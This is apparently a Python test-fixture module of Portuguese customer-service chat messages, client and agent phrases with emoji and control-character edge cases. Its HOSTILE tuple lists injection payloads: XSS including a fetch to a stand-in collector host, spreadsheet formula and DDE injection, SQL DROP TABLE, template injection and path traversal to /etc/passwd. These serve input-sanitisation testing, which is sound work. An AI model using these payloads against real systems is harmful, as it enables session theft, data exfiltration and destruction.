"""What clients and agents write, and what those write who mean harm."""

CLIENT = (
    "Oi, bom dia!", "Boa tarde, preciso remarcar minha consulta 🙏",
    "Vocês atendem no sábado?", "Não recebi a 2ª via do boleto até agora…",
    "Meu protocolo é {protocol}", "Já paguei R$ 1.234,56 ontem às 14h30",
    "👍🏽", "Ok, obrigado(a)!", "Segue o comprovante em anexo",
    "É a terceira vez que eu reclamo disso, que falta de respeito!!!",
    "Falo com quem sobre {service}?", "Linha um\nlinha dois\n\tlinha três",
    "Aspas \"retas\", “curvas” e barra \\ invertida; ponto e vírgula",
    "👩🏾‍⚕️👨‍👩‍👧‍👦 família toda", "Pode ser às 9h ou às 10h?", "sim", "não",
)
AGENT = (
    "Olá, {contact}! Seu atendimento foi iniciado. Protocolo {protocol}.",
    "Bom dia, {contact}, meu nome é {agent}. Em que posso ajudar?",
    "Só um instante, vou verificar no sistema.",
    "Sua solicitação foi encaminhada para {service}.",
    "O prazo é de até 7 dias úteis, conforme combinado.",
    "Poderia me informar o CPF do titular, por gentileza?",
    "Posso ajudar em algo mais?", "A {service} agradece o seu contato 😊",
)
LETTER = "Prezados,\r\n\r\n%s\r\n\r\nAtenciosamente"
HOSTILE = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//coletor.example')\">",
    "\"><svg/onload=alert(1)>", "</script></textarea></title><b>fim",
    "<a href=\"javascript:alert(1)\">2ª via</a>",
    "=HYPERLINK(\"http://coletor.example?\"&A1;\"clique\")",
    "=cmd|' /C calc'!A0", "+55-11-90000-0000", "@SUM(1+1)", "-2+3",
    "\u202egpj.otelob\u202c", "zero\u0000byte e \u001b[31mvermelho\u001b[0m",
    "';DROP TABLE recording;--", "{{7*7}} ${{7*7}} <%= 7*7 %>",
    "\u2028linha\u2029parágrafo\u0085", "../../../../etc/passwd",
)
